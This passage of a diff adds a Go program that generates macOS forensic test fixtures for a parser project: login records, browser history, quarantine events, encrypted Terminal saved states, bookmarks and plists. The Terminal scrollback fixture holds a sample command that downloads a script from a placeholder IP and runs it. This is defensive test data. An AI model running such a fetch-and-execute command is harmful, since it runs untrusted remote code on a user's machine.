@@ -0,0 +1,1274 @@
+// Command fixtures writes the binary fixtures of the module tests, run it from the repository root after changing it
+//
+//	go run ./moduletest/testdata/fixtures
+//
+// Text fixtures (JSON, XML plists) are kept as they are in the testdata directories
+package main
+
+import (
+	"bytes"
+	"compress/gzip"
+	"crypto/aes"
+	"crypto/cipher"
+	"database/sql"
+	"encoding/binary"
+	"fmt"
+	"io/ioutil"
+	"log"
+	"math"
+	"os"
+	"path/filepath"
+	"strconv"
+	"strings"
+	"time"
+	"unicode/utf16"
+
+	_ "github.com/mattn/go-sqlite3"
+	"howett.net/plist"
+)
+
+func main() {
+	for fp, write := range map[string]func(string) error{
+		"mac/modules/macutmpx/testdata/target/private/var/run/utmpx":                                                                                             utmpx,
+		"mac/modules/macquarantines/testdata/target/Users/bob/Library/Preferences/com.apple.LaunchServices.QuarantineEventsV2":                                   quarantineEvents,
+		"mac/modules/macchrome/testdata/target/Users/bob/Library/Application Support/Google/Chrome/Default/History":                                              chromeHistory,
+		"mac/modules/macfirefox/testdata/target/Users/bob/Library/Application Support/Firefox/Profiles/x1y2z3a4.default-release/places.sqlite":                   firefoxPlaces,
+		"mac/modules/macterminalstate/testdata/target/Users/bob/Library/Saved Application State/com.apple.Terminal.savedState/data.data":                         terminalSavedState,
+		"mac/modules/macsavedstate/testdata/target/Users/bob/Library/Saved Application State/com.apple.Terminal.savedState/data.data":                            terminalSavedState,
+		"mac/modules/macsavedstate/testdata/target/Users/bob/Library/Saved Application State/com.apple.Preview.savedState/data.data":                             previewSavedState,
+		"mac/modules/macsavedstate/testdata/target/Users/bob/Library/Saved Application State/com.apple.finder.savedState/data.data":                              finderSavedState,
+		"util/machelpers/testdata/com.apple.LSSharedFileList.RecentDocuments.sfl2":                                                                               sfl2,
+		"mac/modules/macmru/testdata/target/Users/bob/Library/Application Support/com.apple.sharedfilelist/com.apple.LSSharedFileList.RecentDocuments.sfl2":      sfl2,
+		"mac/modules/macmru/testdata/target/Users/bob/Library/Application Support/com.apple.sharedfilelist/com.apple.LSSharedFileList.RecentServers.sfl":         sfl,
+		"mac/modules/macmru/testdata/target/Users/bob/Library/Preferences/com.apple.finder.plist":                                                                finderPreferences,
+		"mac/modules/macmru/testdata/target/Users/bob/Library/Preferences/com.apple.sidebarlists.plist":                                                          sidebarLists,
+		"mac/modules/macmru/testdata/target/Users/bob/Library/Containers/com.example.Editor/Data/Library/Preferences/com.example.Editor.securebookmarks.plist":   secureBookmarks,
+		"mac/modules/macdock/testdata/target/Users/bob/Library/Preferences/com.apple.dock.plist":                                                                 dock,
+		"mac/modules/macrecentitems/testdata/target/Users/bob/Library/Preferences/com.apple.recentitems.plist":                                                   recentItems,
+		"mac/modules/macquicklook/testdata/target/private/var/folders/zz/zyxvpxvq6csfxvn_n0000000000000/C/com.apple.QuickLook.thumbnailcache/index.sqlite":       quicklookIndex,
+		"mac/modules/macdsstore/testdata/target/Users/bob/Documents/.DS_Store":                                                                                   documentsDSStore,
+		"mac/modules/macdsstore/testdata/target/Users/bob/.Trash/.DS_Store":                                                                                      trashDSStore,
+		"mac/modules/macimessage/testdata/target/Users/bob/Library/Messages/chat.db":                                                                             chatDB,
+		"mac/modules/macnotes/testdata/target/Users/bob/Library/Group Containers/group.com.apple.notes/NoteStore.sqlite":                                         noteStore,
+		"mac/modules/macnotifications/testdata/target/private/var/folders/zz/zyxvpxvq6csfxvn_n0000000000000/0/com.apple.notificationcenter/db2/db":               notificationCenterDB,
+		"mac/modules/macnotifications/testdata/target/Users/bob/Library/Group Containers/group.com.apple.usernoted/db2/db":                                       notificationCenterDB,
+		"mac/modules/macidevice/testdata/target/Users/bob/Library/Application Support/MobileSync/Backup/00008030-001A2B3C4D5E802E/Manifest.plist":                manifestPlist("00008030-001A2B3C4D5E802E", "Bob's iPhone", false, time.Date(2020, 8, 1, 8, 15, 0, 0, time.UTC)),
+		"mac/modules/macidevice/testdata/target/Users/bob/Library/Application Support/MobileSync/Backup/00008030-001A2B3C4D5E802E/Manifest.db":                   manifestDB,
+		"mac/modules/macidevice/testdata/target/Users/bob/Library/Application Support/MobileSync/Backup/a1b2c3d4e5f60718293a4b5c6d7e8f9012345678/Manifest.plist": manifestPlist("A1B2C3D4E5F60718293A4B5C6D7E8F9012345678", "Work iPad", true, time.Date(2020, 7, 15, 18, 40, 0, 0, time.UTC)),
+		// Manifest.db of an encrypted backup is encrypted too and must not be queried
+		"mac/modules/macidevice/testdata/target/Users/bob/Library/Application Support/MobileSync/Backup/a1b2c3d4e5f60718293a4b5c6d7e8f9012345678/Manifest.db": func(fp string) error {
+			return ioutil.WriteFile(fp, bytes.Repeat([]byte{0x5a, 0xc3, 0x17, 0x8e}, 1024), 0644)
+		},
+		"mac/modules/macidevice/testdata/target/Users/bob/Library/Preferences/com.apple.iPod.plist":                                iPodPreferences,
+		"mac/modules/macperipherals/testdata/target/Library/Preferences/com.apple.Bluetooth.plist":                                 bluetoothPreferences,
+		"mac/modules/macperipherals/testdata/target/Library/Bluetooth/Library/Preferences/com.apple.MobileBluetooth.devices.plist": mobileBluetoothDevices,
+		"mac/modules/macperipherals/testdata/target/Users/bob/Library/Preferences/com.apple.finder.plist":                          desktopVolumesFinderPreferences,
+		"mac/modules/macperipherals/testdata/target/private/var/log/system.log.0.gz":                                               rotatedSystemLog,
+		"mac/modules/macnetconfig/testdata/target/Library/Preferences/com.apple.wifi.known-networks.plist":                         wifiKnownNetworks,
+		"mac/modules/macnetconfig/testdata/target/private/var/networkd/netusage.sqlite":                                            netusage,
+		"mac/modules/macmsoffice/testdata/target/Users/bob/Library/Containers/com.microsoft.Word/Data/Library/Preferences/com.microsoft.Word.securebookmarks.plist": officeSecureBookmarks(map[string]time.Time{
+			"/Users/bob/Documents/plan.docx":       time.Date(2020, 7, 30, 12, 5, 0, 0, time.UTC),
+			"/Volumes/KINGSTON/Board minutes.docx": time.Date(2020, 8, 1, 9, 10, 0, 0, time.UTC),
+		}),
+		"mac/modules/macmsoffice/testdata/target/Users/bob/Library/Containers/com.microsoft.Excel/Data/Library/Preferences/com.microsoft.Excel.securebookmarks.plist": officeSecureBookmarks(map[string]time.Time{
+			"/Users/bob/Library/Mobile Documents/com~apple~CloudDocs/Documents/passwords.xlsx": time.Date(2020, 8, 1, 9, 0, 30, 0, time.UTC),
+		}),
+		"mac/modules/macmsoffice/testdata/target/Users/bob/Library/Group Containers/UBF8T346G9.Office/MicrosoftRegistrationDB.reg":                                                           microsoftRegistrationDB,
+		"mac/modules/macinetaccounts/testdata/target/Users/bob/Library/Accounts/Accounts4.sqlite":                                                                                            internetAccounts,
+		"mac/modules/maccloudsync/testdata/target/Users/bob/Library/Application Support/CloudDocs/session/db/client.db":                                                                      iCloudDriveClientDB,
+		"mac/modules/maccloudsync/testdata/target/Users/bob/Library/Application Support/Google/DriveFS/104825312345678901234/metadata_sqlite_db":                                             driveFSMetadata,
+		"mac/modules/maccloudsync/testdata/target/Users/bob/Library/Containers/com.microsoft.OneDrive-mac/Data/Library/Application Support/OneDrive/settings/Personal/SyncEngineDatabase.db": oneDriveSyncEngine,
+		"mac/modules/maccloudsync/testdata/target/Users/bob/.dropbox/instance1/sync_history.db":                                                                                              dropboxSyncHistory,
+		"mac/parsers/dsstore/testdata/DS_Store": documentsDSStore,
+		"util/machelpers/testdata/plan.docx.bookmark": func(fp string) error {
+			return ioutil.WriteFile(fp, bookmark("/Users/bob/Documents/plan.docx", time.Date(2020, 7, 30, 12, 0, 0, 0, time.UTC), planSecurityExtension), 0644)
+		},
+		"util/machelpers/testdata/Projects.alias": func(fp string) error {
+			return ioutil.WriteFile(fp, alias("/Users/bob/Projects", "Macintosh HD", time.Date(2020, 6, 1, 8, 0, 0, 0, time.UTC)), 0644)
+		},
+	} {
+		if err := os.MkdirAll(filepath.Dir(fp), 0755); err != nil {
+			log.Fatal(err)
+		}
+		os.Remove(fp)
+		if err := write(fp); err != nil {
+			log.Fatalf("%s: %s", fp, err)
+		}
+	}
+}
+
+// utmpx writes the signature record followed by boot, console login, ssh login and logout records
+func utmpx(fp string) error {
+	type record struct {
+		LoginName [256]uint8
+		ID        [4]uint8
+		TtyName   [32]uint8
+		Pid       int32
+		LogonType int16
+		Padding   [2]byte
+		Epoch     int32
+		Usec      int32
+		Hostname  [256]uint8
+		Reserved  [64]byte
+	}
+	newRecord := func(login, id, tty string, pid int32, logonType int16, t time.Time, host string) record {
+		var r record
+		copy(r.LoginName[:], login)
+		copy(r.ID[:], id)
+		copy(r.TtyName[:], tty)
+		copy(r.Hostname[:], host)
+		r.Pid = pid
+		r.LogonType = logonType
+		r.Epoch = int32(t.Unix())
+		r.Usec = int32(t.Nanosecond() / 1000)
+		return r
+	}
+	base := time.Date(2020, 8, 1, 8, 0, 0, 0, time.UTC)
+	records := []record{
+		newRecord("utmpx-1.00", "", "", 0, 10, time.Unix(0, 0), ""),
+		newRecord("", "", "", 1, 2, base, ""),
+		newRecord("bob", "cons", "console", 152, 7, base.Add(time.Minute+250*time.Millisecond), ""),
+		newRecord("bob", "s000", "ttys000", 4321, 7, base.Add(time.Hour), "10.0.0.5"),
+		newRecord("", "s000", "ttys000", 4321, 8, base.Add(2*time.Hour), ""),
+	}
+	var buf bytes.Buffer
+	if err := binary.Write(&buf, binary.LittleEndian, records); err != nil {
+		return err
+	}
+	return ioutil.WriteFile(fp, buf.Bytes(), 0644)
+}
+
+// sqlite creates the database fp and runs statements against it
+func sqlite(fp string, statements ...string) error {
+	db, err := sql.Open("sqlite3", fp)
+	if err != nil {
+		return err
+	}
+	defer db.Close()
+	for _, s := range statements {
+		if _, err := db.Exec(s); err != nil {
+			return err
+		}
+	}
+	return nil
+}
+
+func quarantineEvents(fp string) error {
+	return sqlite(fp,
+		`CREATE TABLE LSQuarantineEvent (LSQuarantineEventIdentifier TEXT PRIMARY KEY NOT NULL, LSQuarantineTimeStamp REAL, LSQuarantineAgentBundleIdentifier TEXT, LSQuarantineAgentName TEXT, LSQuarantineDataURLString TEXT, LSQuarantineSenderName TEXT, LSQuarantineSenderAddress TEXT, LSQuarantineTypeNumber INTEGER, LSQuarantineOriginTitle TEXT, LSQuarantineOriginURLString TEXT, LSQuarantineOriginAlias BLOB)`,
+		// 2020-08-01T09:00:00Z and 2020-08-01T09:30:00.5Z as Cocoa times
+		`INSERT INTO LSQuarantineEvent VALUES ('0A1B2C3D-0000-4000-8000-000000000001', 617965200, 'com.apple.Safari', 'Safari', 'https://downloads.example.com/installer.dmg', NULL, NULL, 0, NULL, 'https://www.example.com/download', NULL)`,
+		`INSERT INTO LSQuarantineEvent VALUES ('0A1B2C3D-0000-4000-8000-000000000002', 617967000.5, 'com.google.Chrome', 'Google Chrome', 'https://cdn.example.net/payload.zip', NULL, NULL, 0, NULL, NULL, X'626F6F6B')`,
+		`INSERT INTO LSQuarantineEvent VALUES ('0A1B2C3D-0000-4000-8000-000000000003', 617970600, 'com.apple.mail', 'Mail', NULL, 'Alice', 'alice@example.com', 3, 'invoice.pdf', NULL, NULL)`,
+	)
+}
+
+func chromeHistory(fp string) error {
+	// WebKit times are microseconds since 1601-01-01, 13240746000000000 is 2020-08-01T09:00:00Z
+	return sqlite(fp,
+		`CREATE TABLE urls (id INTEGER PRIMARY KEY, url LONGVARCHAR, title LONGVARCHAR, visit_count INTEGER DEFAULT 0 NOT NULL, typed_count INTEGER DEFAULT 0 NOT NULL, last_visit_time INTEGER NOT NULL, hidden INTEGER DEFAULT 0 NOT NULL)`,
+		`CREATE TABLE visits (id INTEGER PRIMARY KEY, url INTEGER NOT NULL, visit_time INTEGER NOT NULL, from_visit INTEGER, transition INTEGER DEFAULT 0 NOT NULL, segment_id INTEGER, visit_duration INTEGER DEFAULT 0 NOT NULL)`,
+		`CREATE TABLE keyword_search_terms (keyword_id INTEGER NOT NULL, url_id INTEGER NOT NULL, term LONGVARCHAR NOT NULL, normalized_term LONGVARCHAR NOT NULL)`,
+		`CREATE TABLE downloads (id INTEGER PRIMARY KEY, guid VARCHAR NOT NULL, current_path LONGVARCHAR NOT NULL, target_path LONGVARCHAR NOT NULL, start_time INTEGER NOT NULL, received_bytes INTEGER NOT NULL, total_bytes INTEGER NOT NULL, state INTEGER NOT NULL, danger_type INTEGER NOT NULL, interrupt_reason INTEGER NOT NULL, hash BLOB NOT NULL, end_time INTEGER NOT NULL, opened INTEGER NOT NULL, last_access_time INTEGER NOT NULL, transient INTEGER NOT NULL, referrer VARCHAR NOT NULL, site_url VARCHAR NOT NULL, tab_url VARCHAR NOT NULL, tab_referrer_url VARCHAR NOT NULL, http_method VARCHAR NOT NULL, by_ext_id VARCHAR NOT NULL, by_ext_name VARCHAR NOT NULL, etag VARCHAR NOT NULL, last_modified VARCHAR NOT NULL, mime_type VARCHAR(255) NOT NULL, original_mime_type VARCHAR(255) NOT NULL)`,
+		`CREATE TABLE downloads_url_chains (id INTEGER NOT NULL, chain_index INTEGER NOT NULL, url LONGVARCHAR NOT NULL, PRIMARY KEY (id, chain_index))`,
+		`INSERT INTO urls VALUES (1, 'https://www.google.com/search?q=orion+forensics', 'orion forensics - Google Search', 1, 0, 13240746000000000, 0)`,
+		`INSERT INTO urls VALUES (2, 'https://github.com/anthonybm/Orion', 'anthonybm/Orion', 2, 1, 13240747800000000, 0)`,
+		`INSERT INTO visits VALUES (1, 1, 13240746000000000, 0, 1, 0, 5000000)`,
+		`INSERT INTO visits VALUES (2, 2, 13240746060000000, 1, 0, 0, 90500000)`,
+		`INSERT INTO visits VALUES (3, 2, 13240747800000000, 0, 1, 0, 0)`,
+		`INSERT INTO keyword_search_terms VALUES (2, 1, 'orion forensics', 'orion forensics')`,
+		`INSERT INTO downloads VALUES (1, '5C6D7E8F-0000-4000-8000-000000000001', '/Users/bob/Downloads/payload.zip', '/Users/bob/Downloads/payload.zip', 13240746120000000, 2048, 2048, 1, 0, 0, X'', 13240746125000000, 1, 0, 0, 'https://github.com/anthonybm/Orion', 'https://cdn.example.net/', 'https://github.com/anthonybm/Orion', 'https://www.google.com/', '', '', '', '', 'Sat, 01 Aug 2020 08:00:00 GMT', 'application/zip', 'application/zip')`,
+		`INSERT INTO downloads_url_chains VALUES (1, 0, 'https://cdn.example.net/payload.zip')`,
+	)
+}
+
+func firefoxPlaces(fp string) error {
+	// PRTime is microseconds since 1970-01-01, 1596272400000000 is 2020-08-01T09:00:00Z, download endTime is milliseconds
+	return sqlite(fp,
+		`CREATE TABLE moz_places (id INTEGER PRIMARY KEY, url LONGVARCHAR, title LONGVARCHAR, rev_host LONGVARCHAR, visit_count INTEGER DEFAULT 0, hidden INTEGER DEFAULT 0 NOT NULL, typed INTEGER DEFAULT 0 NOT NULL, frecency INTEGER DEFAULT -1 NOT NULL, last_visit_date INTEGER, guid TEXT, foreign_count INTEGER DEFAULT 0 NOT NULL, url_hash INTEGER DEFAULT 0 NOT NULL, description TEXT, preview_image_url TEXT, origin_id INTEGER)`,
+		`CREATE TABLE moz_historyvisits (id INTEGER PRIMARY KEY, from_visit INTEGER, place_id INTEGER, visit_date INTEGER, visit_type INTEGER, session INTEGER)`,
+		`CREATE TABLE moz_anno_attributes (id INTEGER PRIMARY KEY, name VARCHAR(32) UNIQUE NOT NULL)`,
+		`CREATE TABLE moz_annos (id INTEGER PRIMARY KEY, place_id INTEGER NOT NULL, anno_attribute_id INTEGER, content LONGVARCHAR, flags INTEGER DEFAULT 0, expiration INTEGER DEFAULT 0, type INTEGER DEFAULT 0, dateAdded INTEGER DEFAULT 0, lastModified INTEGER DEFAULT 0)`,
+		`INSERT INTO moz_places VALUES (1, 'https://www.mozilla.org/en-US/firefox/', 'Firefox', 'gro.allizom.www.', 1, 0, 1, 100, 1596272400000000, 'aaaaaaaaaaaa', 0, 0, NULL, NULL, 1)`,
+		`INSERT INTO moz_places VALUES (2, 'https://cdn.example.net/tool%20kit.dmg', NULL, 'ten.elpmaxe.ndc.', 0, 1, 0, 0, NULL, 'bbbbbbbbbbbb', 0, 0, NULL, NULL, 2)`,
+		`INSERT INTO moz_historyvisits VALUES (1, 0, 1, 1596272400000000, 2, 0)`,
+		`INSERT INTO moz_anno_attributes VALUES (1, 'downloads/destinationFileURI'), (2, 'downloads/metaData'), (3, 'Places/SmartBookmark')`,
+		`INSERT INTO moz_annos VALUES (1, 2, 1, 'file:///Users/bob/Downloads/tool%20kit.dmg', 0, 4, 3, 1596272460000000, 1596272460000000)`,
+		`INSERT INTO moz_annos VALUES (2, 2, 2, '{"state":1,"endTime":1596272465500,"fileSize":104857600}', 0, 4, 3, 1596272465500000, 1596272465500000)`,
+		`INSERT INTO moz_annos VALUES (3, 1, 3, 'MostVisited', 0, 4, 3, 1596272400000000, 1596272400000000)`,
+	)
+}
+
+// archiver builds an NSKeyedArchiver plist, the first object is $null as in archives written by Foundation
+type archiver struct {
+	objects []interface{}
+	classes map[string]plist.UID
+}
+
+func newArchiver() *archiver {
+	return &archiver{objects: []interface{}{"$null"}, classes: map[string]plist.UID{}}
+}
+
+func (a *archiver) add(object interface{}) plist.UID {
+	a.objects = append(a.objects, object)
+	return plist.UID(len(a.objects) - 1)
+}
+
+func (a *archiver) class(name string, super ...string) plist.UID {
+	if uid, ok := a.classes[name]; ok {
+		return uid
+	}
+	uid := a.add(map[string]interface{}{"$classname": name, "$classes": append([]interface{}{name}, toInterfaces(super)...)})
+	a.classes[name] = uid
+	return uid
+}
+
+func (a *archiver) array(values ...interface{}) plist.UID {
+	refs := []interface{}{}
+	for _, v := range values {
+		refs = append(refs, a.value(v))
+	}
+	return a.add(map[string]interface{}{"NS.objects": refs, "$class": a.class("NSArray", "NSObject")})
+}
+
+// dict adds an NSDictionary from alternating keys and values
+func (a *archiver) dict(kv ...interface{}) plist.UID {
+	keys, values := []interface{}{}, []interface{}{}
+	for i := 0; i < len(kv); i += 2 {
+		keys = append(keys, a.value(kv[i]))
+		values = append(values, a.value(kv[i+1]))
+	}
+	return a.add(map[string]interface{}{"NS.keys": keys, "NS.objects": values, "$class": a.class("NSDictionary", "NSObject")})
+}
+
+// object adds an instance of a class archived with its own keys from alternating keys and values
+func (a *archiver) object(name string, super []string, kv ...interface{}) plist.UID {
+	fields := map[string]interface{}{}
+	for i := 0; i < len(kv); i += 2 {
+		fields[kv[i].(string)] = a.value(kv[i+1])
+	}
+	fields["$class"] = a.class(name, super...)
+	return a.add(fields)
+}
+
+func (a *archiver) mutableString(s string) plist.UID {
+	return a.add(map[string]interface{}{"NS.string": s, "$class": a.class("NSMutableString", "NSString", "NSObject")})
+}
+
+// value returns the reference of v, adding it first unless it already is one
+func (a *archiver) value(v interface{}) plist.UID {
+	if uid, ok := v.(plist.UID); ok {
+		return uid
+	}
+	return a.add(v)
+}
+
+func (a *archiver) bytes(root plist.UID) ([]byte, error) {
+	return plist.Marshal(map[string]interface{}{
+		"$archiver": "NSKeyedArchiver",
+		"$version":  100000,
+		"$top":      map[string]interface{}{"root": root},
+		"$objects":  a.objects,
+	}, plist.BinaryFormat)
+}
+
+func toInterfaces(s []string) []interface{} {
+	r := []interface{}{}
+	for _, v := range s {
+		r = append(r, v)
+	}
+	return r
+}
+
+// savedWindow is a window of a saved state, archive adds the root object of its data block to a new archiver
+type savedWindow struct {
+	id      uint64
+	key     []byte
+	title   string
+	archive func(a *archiver) plist.UID
+}
+
+// writeSavedState writes windows.plist with the window titles and keys, and data.data with a block for each window
+// and one for a window without a key
+func writeSavedState(fp string, windows []savedWindow) error {
+	iv := []byte{35, 46, 57, 24, 85, 35, 24, 74, 87, 35, 88, 98, 66, 32, 14, 05}
+
+	plistWindows := []interface{}{}
+	var data bytes.Buffer
+	block := func(id uint32, payload []byte) {
+		data.WriteString("NSCR1000")
+		binary.Write(&data, binary.BigEndian, id)
+		binary.Write(&data, binary.BigEndian, uint32(16+len(payload)))
+		data.Write(payload)
+	}
+	for _, w := range windows {
+		plistWindows = append(plistWindows, map[string]interface{}{"NSWindowID": w.id, "NSTitle": w.title, "NSDataKey": w.key, "NSIsMainWindow": true})
+
+		a := newArchiver()
+		archive, err := a.bytes(w.archive(a))
+		if err != nil {
+			return err
+		}
+		var payload bytes.Buffer
+		payload.WriteString("rchv")
+		binary.Write(&payload, binary.BigEndian, uint32(len(archive)))
+		payload.Write(archive)
+		payload.Write(make([]byte, (aes.BlockSize-payload.Len()%aes.BlockSize)%aes.BlockSize))
+
+		c, err := aes.NewCipher(w.key)
+		if err != nil {
+			return err
+		}
+		encrypted := payload.Bytes()
+		cipher.NewCBCEncrypter(c, iv).CryptBlocks(encrypted, encrypted)
+		block(uint32(w.id), encrypted)
+	}
+	block(99, make([]byte, 32))
+
+	windowsPlist, err := plist.Marshal(plistWindows, plist.BinaryFormat)
+	if err != nil {
+		return err
+	}
+	if err := ioutil.WriteFile(filepath.Join(filepath.Dir(fp), "windows.plist"), windowsPlist, 0644); err != nil {
+		return err
+	}
+	return ioutil.WriteFile(fp, data.Bytes(), 0644)
+}
+
+// terminalSavedState writes two Terminal windows with their working directory and scrollback
+func terminalSavedState(fp string) error {
+	tab := func(cwd string, lines ...string) func(a *archiver) plist.UID {
+		return func(a *archiver) plist.UID {
+			values := []interface{}{}
+			for i, line := range lines {
+				// Terminal archives lines as NSString or NSMutableString
+				if i%2 == 1 {
+					values = append(values, a.mutableString(line))
+				} else {
+					values = append(values, line)
+				}
+			}
+			tab := a.dict("Tab Working Directory URL String", cwd, "Tab Contents v2", a.array(values...))
+			return a.dict("Window Settings", a.array(tab))
+		}
+	}
+	return writeSavedState(fp, []savedWindow{
+		{17, []byte("0123456789abcdef"), "bob — -zsh — 80×24", tab("file:///Users/bob/", "Last login: Sat Aug  1 09:00:00 on ttys000", "bob@mac ~ % curl -sO http://203.0.113.7/x.sh")},
+		{23, []byte("fedcba9876543210"), "tmp — -zsh — 80×24", tab("file:///private/tmp/", "bob@mac tmp % chmod +x x.sh && ./x.sh")},
+	})
+}
+
+// previewSavedState writes a Preview window showing a document through its URL
+func previewSavedState(fp string) error {
+	return writeSavedState(fp, []savedWindow{
+		{41, []byte("0011223344556677"), "invoice.pdf", func(a *archiver) plist.UID {
+			document := a.object("NSURL", []string{"NSObject"}, "NS.base", plist.UID(0), "NS.relative", "file:///Users/bob/Downloads/invoice.pdf")
+			return a.dict("NSDocumentURL", document, "PVSidebarVisible", false)
+		}},
+	})
+}
+
+// finderSavedState writes a Finder window showing a folder through a bookmark
+func finderSavedState(fp string) error {
+	return writeSavedState(fp, []savedWindow{
+		{5, []byte("8899aabbccddeeff"), "Projects", func(a *archiver) plist.UID {
+			return a.dict("TargetBookmark", bookmark("/Users/bob/Projects", time.Date(2020, 6, 1, 8, 0, 0, 0, time.UTC), ""), "ViewStyle", "Nlsv")
+		}},
+	})
+}
+
+// sfl2 writes a recent documents list with two items holding bookmarks
+func sfl2(fp string) error {
+	a := newArchiver()
+	items := []interface{}{}
+	for i, path := range []string{"/Users/bob/Documents/plan.docx", "/Users/bob/Downloads/invoice.pdf"} {
+		items = append(items, a.dict(
+			"Bookmark", bookmark(path, time.Date(2020, 7, 30+i, 12, 0, 0, 0, time.UTC), ""),
+			"CustomItemProperties", a.dict(),
+			"uuid", []string{"3F2504E0-4F89-11D3-9A0C-0305E82C3301", "3F2504E0-4F89-11D3-9A0C-0305E82C3302"}[i],
+			"visibility", uint64(0),
+		))
+	}
+	root := a.dict("items", a.array(items...), "properties", a.dict())
+	b, err := a.bytes(root)
+	if err != nil {
+		return err
+	}
+	return ioutil.WriteFile(fp, b, 0644)
+}
+
+// sfl writes a recent servers list of 10.11, whose items are archived SFLListItem objects
+func sfl(fp string) error {
+	a := newArchiver()
+	uuid := []byte{0x6b, 0x29, 0xfc, 0x40, 0xca, 0x47, 0x10, 0x67, 0xb3, 0x1d, 0x00, 0xdd, 0x01, 0x06, 0x62, 0xda}
+	item := a.object("SFLListItem", []string{"NSObject"},
+		"name", "fileserver",
+		"URL", a.object("NSURL", []string{"NSObject"}, "NS.base", plist.UID(0), "NS.relative", "smb://fileserver.example.com/share"),
+		"bookmark", bookmark("/Volumes/share", time.Date(2020, 7, 28, 16, 0, 0, 0, time.UTC), ""),
+		"uniqueIdentifier", a.object("NSUUID", []string{"NSObject"}, "NS.uuidbytes", uuid),
+		"visibility", uint64(0),
+		"order", uint64(1),
+		"flags", uint64(0),
+		"properties", a.dict(),
+	)
+	root := a.dict("items", a.array(item), "properties", a.dict())
+	b, err := a.bytes(root)
+	if err != nil {
+		return err
+	}
+	return ioutil.WriteFile(fp, b, 0644)
+}
+
+// finderPreferences writes the Finder recent folders, which hold bookmarks, and the move and copy destinations
+func finderPreferences(fp string) error {
+	b, err := plist.Marshal(map[string]interface{}{
+		"FXRecentFolders": []interface{}{
+			map[string]interface{}{"name": "Documents", "file-bookmark": bookmark("/Users/bob/Documents", time.Date(2020, 6, 1, 8, 0, 0, 0, time.UTC), "")},
+		},
+		"RecentMoveAndCopyDestinations": []interface{}{"file:///Users/bob/Desktop/"},
+	}, plist.BinaryFormat)
+	if err != nil {
+		return err
+	}
+	return ioutil.WriteFile(fp, b, 0644)
+}
+
+// sidebarLists writes the pre 10.11 sidebar favorites, which hold legacy aliases
+func sidebarLists(fp string) error {
+	b, err := plist.Marshal(map[string]interface{}{
+		"favorites": map[string]interface{}{
+			"CustomListItems": []interface{}{
+				map[string]interface{}{"Name": "Projects", "Alias": alias("/Users/bob/Projects", "Macintosh HD", time.Date(2020, 6, 1, 8, 0, 0, 0, time.UTC))},
+			},
+		},
+	}, plist.BinaryFormat)
+	if err != nil {
+		return err
+	}
+	return ioutil.WriteFile(fp, b, 0644)
+}
+
+// planSecurityExtension is the sandbox extension of a read-write security scoped bookmark
+const planSecurityExtension = "7b2e1c9a0d4f6e8b5a3c2d1e0f9a8b7c6d5e4f3a;00;00000000;00000000;00000000;0000000000000020;com.apple.app-sandbox.read-write;01;01000004;0000000000055f12;/users/bob/documents/plan.docx\x00"
+
+// secureBookmarks writes the security scoped bookmarks of a sandboxed application
+func secureBookmarks(fp string) error {
+	b, err := plist.Marshal(map[string]interface{}{
+		"file:///Users/bob/Documents/plan.docx": map[string]interface{}{
+			"data": bookmark("/Users/bob/Documents/plan.docx", time.Date(2020, 7, 30, 12, 0, 0, 0, time.UTC), planSecurityExtension),
+		},
+	}, plist.BinaryFormat)
+	if err != nil {
+		return err
+	}
+	return ioutil.WriteFile(fp, b, 0644)
+}
+
+// bookmark encodes a bookmark ("book") for path on the boot volume, with a security extension unless it is empty
+func bookmark(path string, created time.Time, securityExtension string) []byte {
+	const headerSize = 48
+	var body bytes.Buffer
+	body.Write(make([]byte, 4)) // offset of the table of contents
+	record := func(typ uint32, data []byte) uint32 {
+		offset := uint32(body.Len())
+		binary.Write(&body, binary.LittleEndian, uint32(len(data)))
+		binary.Write(&body, binary.LittleEndian, typ)
+		body.Write(data)
+		body.Write(make([]byte, (4-len(data)%4)%4))
+		return offset
+	}
+	str := func(s string) uint32 { return record(0x0101, []byte(s)) }
+	number := func(n uint64) uint32 {
+		b := make([]byte, 8)
+		binary.LittleEndian.PutUint64(b, n)
+		return record(0x0304, b)
+	}
+	array := func(offsets []uint32) uint32 {
+		var b bytes.Buffer
+		binary.Write(&b, binary.LittleEndian, offsets)
+		return record(0x0601, b.Bytes())
+	}
+	date := func(t time.Time) uint32 {
+		b := make([]byte, 8)
+		binary.BigEndian.PutUint64(b, math.Float64bits(float64(t.Unix()-978307200)))
+		return record(0x0400, b)
+	}
+
+	// the file IDs are made up from the depth of each component
+	components, ids := []uint32{}, []uint32{}
+	for i, c := range bytes.Split([]byte(path[1:]), []byte("/")) {
+		components = append(components, str(string(c)))
+		ids = append(ids, number(uint64(100000*(i+1)+len(c))))
+	}
+	toc := [][2]uint32{
+		{0x1004, array(components)},
+		{0x1005, array(ids)},
+		{0x1040, date(created)},
+		{0x2002, str("/")},
+		{0x2005, str("file:///")},
+		{0x2010, str("Macintosh HD")},
+		{0x2011, str("0A81F3B1-51D9-3335-B3E3-169C3640360D")},
+		{0x2013, date(time.Date(2019, 10, 7, 21, 0, 0, 0, time.UTC))},
+		{0xc011, str("bob")},
+		{0xc012, number(501)},
+	}
+	if securityExtension != "" {
+		toc = append(toc, [2]uint32{0xf080, record(0x0201, []byte(securityExtension))})
+	}
+	tocOffset := uint32(body.Len())
+	binary.Write(&body, binary.LittleEndian, []uint32{uint32(12 + 12*len(toc)), 0xfffffffe, 1, 0, uint32(len(toc))})
+	for _, entry := range toc {
+		binary.Write(&body, binary.LittleEndian, []uint32{entry[0], entry[1], 0})
+	}
+	b := body.Bytes()
+	binary.LittleEndian.PutUint32(b[0:4], tocOffset)
+
+	var out bytes.Buffer
+	out.WriteString("book")
+	binary.Write(&out, binary.LittleEndian, []uint32{uint32(headerSize + len(b)), 0x10040000, headerSize})
+	out.Write(make([]byte, headerSize-out.Len()))
+	out.Write(b)
+	return out.Bytes()
+}
+
+// alias encodes a version 2 alias record for path on a volume mounted at /, as Carbon wrote them before 10.11
+func alias(path string, volume string, created time.Time) []byte {
+	hfs := func(t time.Time) uint32 { return uint32(t.Unix() + 2082844800) }
+	pascal := func(s string, size int) []byte {
+		b := make([]byte, size)
+		b[0] = byte(len(s))
+		copy(b[1:], s)
+		return b
+	}
+	name := path[strings.LastIndex(path, "/")+1:]
+
+	var rec bytes.Buffer
+	rec.Write(make([]byte, 4))                              // creator code
+	binary.Write(&rec, binary.BigEndian, []uint16{0, 2, 1}) // record size, version, kind (folder)
+	rec.Write(pascal(volume, 28))
+	binary.Write(&rec, binary.BigEndian, hfs(time.Date(2019, 10, 7, 21, 0, 0, 0, time.UTC)))
+	rec.WriteString("H+")
+	binary.Write(&rec, binary.BigEndian, uint16(0))      // disk type
